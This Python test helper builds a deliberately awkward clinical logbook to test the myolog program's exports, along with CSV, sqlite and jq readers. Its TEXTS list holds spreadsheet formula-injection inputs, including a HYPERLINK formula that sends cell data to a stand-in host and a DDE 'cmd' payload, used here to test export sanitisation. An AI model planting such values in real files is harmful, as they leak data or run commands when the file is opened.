"""lib_export.py: a logbook that exports have trouble with, made by the program
itself: three revisions of a protocol, two stations, days that begin and clocks
that change in a session, texts that readers stumble over, and every kind of
what is missing. And readers of tables that are not the program's.
"""
import csv
import io
import json
import os
import subprocess

import lib_fold
import lib_myolog
from lib_myolog import Place

HEAD = """[protocol]
id = torture
version = %s
title = Torture, "quoted"
region = test
sides = right, left
sources = none
"""
FEVER = """
[safety fever]
ask = A fever?
level = hard
blocks = rises
"""
STRENGTH = """
[step strength]
kind = grade
scale = %s
ask = The grade
"""
TENDON = """
[step tendon]
kind = palpation
with = strength
ask = The tendon
structure = tendon
option.firm = firm, and whole
option.tender = tender
option.gap-2 = =gap
abnormal = tender, gap-2
exclusive = firm
note = ask-if-abnormal
"""
RISES = """
[step rises]
kind = count
ask = Heel rises
ask_if = strength >= 3
soft_max = 60
max = 200
"""
FORCE = """
[step force]
kind = number
sides = once
ask = The force
unit = %s
decimals = 1
min = -10
max = 900
trials = 2
"""
SHOE = """
[step shoe]
kind = choice
sides = once
ask = On the foot
required = no
option.bare = nothing
option.sock = a sock
"""
WORDS = """
[step words]
kind = text
sides = once
ask = In own words
required = no
"""
EXTRA = """
[step extra]
kind = yesno
sides = once
ask = Anything else?
"""
REST = """
[check few]
if = strength = 5 and rises < 10
say = Strong, but few rises

[score rises-index]
label = Heel rises, right of left
formula = 100 * rises.right / rises.left
band = < 50 half, or less
source = none
"""
# The newest has another order, another scale and another unit.
REVISIONS = {
    "2": HEAD % 2 + FEVER + STRENGTH % "mrc" + TENDON + RISES +
    FORCE % "N, kgf" + SHOE + WORDS + REST,
    "3": HEAD % 3 + FEVER + STRENGTH % "mrc" + TENDON + RISES +
    FORCE % "kgf" + SHOE + WORDS + EXTRA + REST,
    "10": HEAD % 10 + FEVER + WORDS + STRENGTH % "mrc-4split" + TENDON +
    RISES + FORCE % "kgf" + EXTRA + REST,
}

LONG_NOTE = "a very long note, " * 700 + "ends \"here\""
FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1;\"y\")", "+1+2", "-2+3",
            "@SUM(A1)", "\t=1+1", "\r=1", "\uff1d1+1", "\uff0b1",
            "\uff0d1", "\uff20A1", "  =1+1", "\"=1+1\"", "'=1+1",
            "=cmd|' /C calc'!A0", "\u00a0\u3000=1", "\ufeff=1+1"]
TEXTS = ["plain", "a \"quoted\", b", "\"", ",", ";", "tab\there",
         "one\ntwo", "one\r\ntwo\rthree", "ends\n", "\\n is no line break",
         "control \x01\x1b[31m\x7f\x85", "\u05e9\u05dc\u05d5\u05dd "
         "\u0645\u0631\u062d\u0628\u0627 \u202eabc\u202c",
         "e\u0301 n\u0308 \u0e01\u0e33", "\U0001f468\u200d\U0001f469\u200d"
         "\U0001f467 \U0001f1e9\U0001f1ea", "NA", "NULL", "None", "nan",
         "TRUE", "007", "1e5", "1-2", "12/11", "1:30", "0x1F", "4-", "-5",
         "12.50", "Infinity", "\u2028", "'", "''", "#N/A", "MAR1", "MAR-1",
         "Mar. 1, 2024", "1-Mar", "M\u00e4rz 2024", "false", "5 PM",
         "123456789012", "12.5", "MAR-1 was worse",
         LONG_NOTE] + FORMULAS

# Of sessions that count: the void one's is not among them.
PATIENTS = ["007", "14", "1e5", "NA-1", "T-1", "W-1", "W-2"]
# Why a step was not tested: what a clinic chooses from.
REASONS = ["pain", "contracture", "immobilised", "weight-bearing-restricted",
           "recent-surgery", "unstable-fracture", "wound-or-line",
           "amputation", "spasticity", "fatigue", "sedated", "cognition",
           "communication", "refused", "position-not-possible",
           "examiner-unable", "equipment", "time", "stopped-for-safety",
           "other"]
REASON_SESSIONS = -(-len(REASONS) // 3)

# Of a session, where one text each is the note.
PLACES = ["strength.right", "strength.left", "tendon.right", "tendon.left",
          "rises.right"]
TEXT_SESSIONS = -(-len(TEXTS) // len(PLACES))

HOOKED = os.environ.get("MYOLOG_TEST")
MIDNIGHT = 1790287080000      # 2026-09-24T21:58 UTC, two minutes to midnight
AUTUMN = 1792889940000        # 2026-10-25T00:59 UTC, a minute to winter time
SPRING = 1806195540000        # 2027-03-28T00:59 UTC, a minute to summer time
TZ = "CET-1CEST,M3.5.0,M10.5.0/3"


class Book:
    """The logbook and what is known of it from what was typed."""

    def __init__(self, place):
        self.place = place
        self.sessions = {}      # a name: session id
        self.texts = []         # (patient's note, what was given)
        config = os.path.join(place.dir, "myolog.ini")
        with open(config, "w", encoding="utf-8") as f:
            f.write("[session]\npatient_pattern = [A-Za-z0-9._-]{1,32}\n")
        place.env.update(MYOLOG_CONFIG=config, TZ=TZ)
        self.path = {v: place.protocol("torture-" + v, text)
                     for v, text in REVISIONS.items()}
        self.other = dict(XDG_STATE_HOME=place.dir + "/other")
        self.clock = 0

    def at(self, clock, step=7000):
        """The program's clock, where it has hooks."""
        if HOOKED:
            self.place.env["MYO_TEST_CLOCK"] = "%d,%d" % (clock, step)
            self.place.env["MYO_TEST_HOST"] = "here"
            self.other["MYO_TEST_HOST"] = "zz-other"

    def run(self, *args, there=False, code=0, **kwargs):
        p = self.place.run(*args, env=self.other if there else {}, **kwargs)
        if p.returncode != code:
            raise AssertionError("%r: %d\n%s" % (args, p.returncode, p.err))
        return p

    def session(self, name, version, patient, lines, code=0, there=False,
                options=()):
        self.run("run", self.path[version], "--patient", patient,
                 "--examiner", "E1", *options, lines=["y", *lines],
                 there=there, code=code)
        self.sessions[name] = max(r["session_id"] for r in self.place.rows()
                                  if r["session_id"] not in
                                  self.sessions.values() and
                                  r["entry"] == "open")
        return self.sessions[name]


def make(place):
    if HOOKED:
        lib_myolog.MYOLOG = HOOKED
    book = Book(place)
    book.at(MIDNIGHT, 9000)
    # All answered; a note with every formula, and a text that is one.
    book.session("first", "2", "007", [
        "n", "4p / =1+1", "firm", "5~", "tender, gap-2", "a, \"b\"", "12",
        "9 / few", "-5", "12.5", "sock", "=2+2", ":note @on the session",
        "y", "y"])
    # Not tested in every way, and what was passed over.
    book.at(AUTUMN, 30000)
    book.session("kinds", "2", "NA-1", [
        "n", "nt pain =very", "nt refused", "nt fatigue", "", "", "y"])
    for i in range(0, len(REASONS), 3):
        why = (REASONS[i:i + 3] + ["time"])[:3]
        book.at(AUTUMN + (i + 1) * 3600000)
        book.session("why-%d" % (i // 3), "2", "W-1", [
            "n", *("nt %s%s" % (w, " words" if w == "other" else "")
                   for w in why), "", "", "y"])
    # Rises are blocked by a safety question; then the session is stopped.
    book.session("fever", "2", "W-2", [
        "y", "39.5 degrees", "4", "firm", "4", "firm", "1", "2", "", "",
        "y"])
    book.session("stopped", "2", "W-2", ["n", "4", "firm", ":stop symptom",
                                         "y"])
    # Ended in the middle.
    book.session("finished", "3", "NA-1", ["n", "4", "firm", ":finish", "y"])
    # Open: the rest is blank; rises are hidden on the right.
    book.at(SPRING, 30000)
    book.session("open", "3", "1e5", ["n", "2", "firm", "4"], code=5)
    # The newest revision, on the other station, one side alone.
    book.at(SPRING + 86400000)
    book.session("newest", "10", "NA-1", [
        "n", "+49 170 1234567", "4-", "firm", "33", "nt amputation", "y",
        "y"], there=True, options=("--sides", "left"))
    # Withdrawn, and moved to another patient.
    book.at(SPRING + 2 * 86400000)
    book.session("void", "3", "12", ["n", "5", "firm", "5", "firm", "30",
                                     "31", "100", "101", "", "", "n", "y"])
    book.run("void", book.sessions["void"], "--reason", "=wrong, \"patient\"",
             "--examiner", "E1")
    book.session("moved", "3", "13", ["n", "5", "firm", "5", "firm", "30",
                                      "31", "100", "101", "", "", "n", "y"])
    book.run("void", book.sessions["moved"], "--moved-to", "14", "--reason",
             "wrong patient", "--examiner", "E1")
    # Amended by the other station; then a cell of its own for each text.
    book.at(SPRING + 3 * 86400000)
    book.run("amend", book.sessions["first"], "rises.left", "13",
             "--reason", "=typed, wrong", "--examiner", "E-9", there=True)
    book.at(SPRING + 4 * 86400000)
    for i, text in enumerate(TEXTS):
        name = "texts-%d" % (i // len(PLACES))
        if i % len(PLACES) == 0:
            book.session(name, "2", "T-1", [
                "n", "4", "firm", "4", "firm", "12", "9", "1", "2", "", "",
                "y"])
        book.note(name, PLACES[i % len(PLACES)], text)
    return book


def _note(book, name, where, text):
    """A note in force at a place: given as something else, then corrected,
    since a prompt is one line."""
    value = {"strength": ["3", "4"], "tendon": ["tender", "firm"],
             "rises": ["20", "21"]}[where.split(".")[0]]
    step, side = where.split(".")
    now = lib_fold.answers(
        [r for r in book.place.rows() if r["session_id"] ==
         book.sessions[name]])[(step, side, "")]["value"]
    book.run("amend", book.sessions[name], where,
             value[0] if now != value[0] else value[1], "--reason", "x",
             "--note", "to be corrected", "--examiner", "E1")
    row = max((r for r in book.place.rows() if r["note"] == "to be corrected"),
              key=lambda r: int(r["seq"]))
    book.run("amend", book.sessions[name], row["seq"], "--note", text,
             "--reason", "x", "--examiner", "E1")


Book.note = _note


# ---- readers

def by_python(data):
    """The table as lists of cells, the header first."""
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""),
                           strict=True))


def by_sqlite(data, folder):
    """The same by sqlite3; None where it is not installed."""
    path = os.path.join(folder, "table.csv")
    with open(path, "wb") as f:
        f.write(data)
    try:
        p = subprocess.run(
            ["sqlite3", "-batch", ":memory:"], capture_output=True,
            input=(".mode csv\n.import %s t\n.mode json\n"
                   "select * from t order by rowid;\n" % path).encode(),
            check=True)
    except FileNotFoundError:
        return None
    rows = json.loads(p.stdout.decode("utf-8") or "[]", strict=False)
    return [list(rows[0])] + [list(r.values()) for r in rows] if rows else []


def by_jq(program, data):
    """What a jq program makes of JSON; None where it is not installed."""
    try:
        p = subprocess.run(["jq", "-c", program], input=data,
                           capture_output=True, check=True)
    except FileNotFoundError:
        return None
    return json.loads(p.stdout)
